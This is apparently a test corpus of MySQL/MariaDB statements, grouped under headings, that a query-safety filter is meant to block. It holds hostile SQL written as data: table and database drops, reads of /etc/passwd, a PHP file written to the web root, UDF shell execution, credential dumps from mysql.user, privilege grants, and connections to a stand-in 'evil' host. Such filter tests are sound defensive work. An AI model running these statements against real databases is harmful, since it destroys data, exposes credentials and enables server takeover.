-- Comments that the server runs
SELECT 1 /*!50000 ; DROP TABLE customers */
/*!50000 DROP TABLE customers */
/*! DROP TABLE customers */
/*M! DROP TABLE customers */
/*M!100100 DROP TABLE customers */
SELECT /*! 1 */
SELECT 1 /*!UNION SELECT authentication_string FROM mysql.user*/
SELECT /*!99999 ' */ 1 /*! ' */
SELECT /*+ SET_VAR(sql_safe_updates = 0) */ 1
SELECT /*+ MAX_EXECUTION_TIME(0) */ 1
SELECT 1 /* a /*! DROP TABLE customers */ b */
SELECT 1 /* a /* b */
-- Quotes that sql_mode ends elsewhere
SELECT '\'; DROP TABLE customers; -- '
SELECT "\"; DROP TABLE customers; -- "
SELECT 'it\'s'
SELECT "email" AS x FROM customers
SELECT `a``b` FROM customers
SELECT 1--1; DROP TABLE customers
SELECT 1 -- x⏎; DROP TABLE customers
SELECT 1 #x⏎; DROP TABLE customers
SELECT {d '2020-01-01'}
SELECT {fn SLEEP(5)}
SELECT \N
SELECT @`a`
-- Files
SELECT * FROM customers INTO OUTFILE '/tmp/x'
SELECT * INTO OUTFILE '/tmp/x' FROM customers
SELECT '<?php' INTO DUMPFILE '/var/www/x.php'
SELECT name INTO @a FROM customers LIMIT 1
SELECT load_file('/etc/passwd')
SELECT LOAD_FILE(0x2f6574632f706173737764)
SELECT 1 FROM customers WHERE load_file('/etc/passwd') IS NOT NULL
SELECT 1 ORDER BY load_file('/etc/passwd')
LOAD DATA INFILE '/etc/passwd' INTO TABLE notes
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE notes
LOAD XML INFILE '/tmp/x' INTO TABLE notes
HANDLER customers OPEN
HANDLER customers READ FIRST
HANDLER customers CLOSE
SELECT * FROM customers PROCEDURE ANALYSE()
-- Time and locks
SELECT SLEEP(60)
SELECT sleep (60)
SELECT `sleep`(60)
SELECT 1 FROM customers WHERE SLEEP(1)
SELECT IF(1, SLEEP(9), 0)
SELECT BENCHMARK(100000000, MD5('x'))
SELECT benchmar⏎K(1, 1)
SELECT GET_LOCK('a', 60)
SELECT RELEASE_LOCK('a')
SELECT RELEASE_ALL_LOCKS()
SELECT MASTER_POS_WAIT('a', 1)
LOCK TABLES customers WRITE
UNLOCK TABLES
FLUSH TABLES WITH READ LOCK
FLUSH PRIVILEGES
KILL 5
KILL QUERY 5
DO SLEEP(60)
-- Text that runs as SQL
PREPARE a FROM 'DROP TABLE customers'
PREPARE a FROM @sql
EXECUTE a
EXECUTE a USING @x
DEALLOCATE PREPARE a
EXECUTE IMMEDIATE 'DROP TABLE customers'
EXECUTE IMMEDIATE CONCAT('DROP', ' TABLE customers')
BEGIN NOT ATOMIC DROP TABLE customers; END
IF 1 THEN DROP TABLE customers; END IF
LOOP DELETE FROM notes; END LOOP
DELIMITER //
CALL p()
CALL mysql.p('x')
CREATE PROCEDURE p() DELETE FROM customers
CREATE FUNCTION f() RETURNS int RETURN 1
CREATE FUNCTION sys_exec RETURNS int SONAME 'udf.so'
CREATE TRIGGER g BEFORE INSERT ON notes FOR EACH ROW DELETE FROM customers
CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM customers
CREATE DEFINER = root@localhost VIEW v AS SELECT * FROM customers
INSTALL PLUGIN x SONAME 'x.so'
INSTALL SONAME 'x'
UNINSTALL PLUGIN x
SELECT sys_exec('id')
SELECT sys_eval('id')
-- Settings, accounts, replication
SET GLOBAL general_log = 1
SET GLOBAL local_infile = 1
SET PERSIST max_connections = 1
SET @a = 1
SET @@global.event_scheduler = ON
SET sql_mode = ''
SET NAMES utf8mb4
SET PASSWORD FOR root = 'x'
SET STATEMENT max_statement_time = 0 FOR SELECT 1
SET ROLE admin
SET @a = (SELECT 1)
SELECT @a := email FROM customers
USE mysql
RESET MASTER
RESET QUERY CACHE
PURGE BINARY LOGS TO 'x'
CHANGE MASTER TO MASTER_HOST = 'evil'
START SLAVE
STOP SLAVE
SHUTDOWN
RESTART
XA START 'x'
START TRANSACTION
CREATE USER mallory
CREATE USER mallory IDENTIFIED BY 'x'
ALTER USER root IDENTIFIED BY 'x'
DROP USER alice
RENAME USER alice TO mallory
RENAME TABLE customers TO x
GRANT ALL PRIVILEGES ON *.* TO mallory WITH GRANT OPTION
CREATE DATABASE evil
DROP DATABASE shop
ALTER DATABASE shop CHARACTER SET latin1
CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST 'evil')
CREATE TABLE f (a int) ENGINE = FEDERATED CONNECTION = 'mysql://evil/x'
OPTIMIZE TABLE customers
ANALYZE TABLE customers
REPAIR TABLE customers
CHECK TABLE customers
-- Writes without an end
UPDATE customers SET name = 'x' LIMIT 5
DELETE FROM customers LIMIT 5
DELETE FROM customers ORDER BY id LIMIT 5
DELETE c FROM customers c JOIN orders o
DELETE FROM c USING customers c JOIN orders o
DELETE customers, orders FROM customers JOIN orders
UPDATE customers, orders SET customers.name = 'x'
UPDATE customers JOIN orders ON 1 = 1 SET customers.name = 'x'
DELETE FROM customers WHERE true
DELETE FROM customers WHERE id <=> id
DELETE FROM customers WHERE 1 || 0
DELETE FROM customers WHERE "id" = id
ANALYZE DELETE FROM customers
ANALYZE FORMAT=JSON UPDATE customers SET name = 'x'
EXPLAIN ANALYZE DELETE FROM customers
WITH a AS (SELECT 1 AS x) DELETE FROM customers
TABLE customers
-- Secrets of the server
SELECT user, authentication_string FROM mysql.user
SELECT * FROM `mysql`.`user`
SELECT * FROM MySQL.User
SELECT Priv FROM mysql.global_priv
SELECT * FROM mysql.db
SELECT * FROM mysql.proxies_priv
SELECT * FROM mysql.servers
SELECT * FROM mysql.column_stats
SELECT * FROM mysql.general_log
SELECT * FROM mysql.slow_log
SELECT info FROM information_schema.processlist
SELECT * FROM information_schema.user_variables
SELECT * FROM information_schema.column_statistics
SELECT * FROM information_schema.innodb_trx
SELECT sql_text FROM performance_schema.events_statements_history
SELECT processlist_info FROM performance_schema.threads
SELECT * FROM performance_schema.user_variables_by_thread
SELECT * FROM sys.session
SELECT (SELECT authentication_string FROM mysql.user LIMIT 1) AS x
SELECT 1 UNION SELECT authentication_string FROM mysql.user
SHOW GRANTS
SHOW GRANTS FOR root
SHOW CREATE USER root
SHOW PROCESSLIST
SHOW FULL PROCESSLIST
SHOW VARIABLES
SHOW VARIABLES LIKE 'report_password'
SHOW MASTER STATUS
SHOW SLAVE STATUS
SHOW BINLOG EVENTS
SHOW TABLES WHERE f(1)
SELECT @@report_password
DESCRIBE mysql.user
EXPLAIN FOR CONNECTION 5
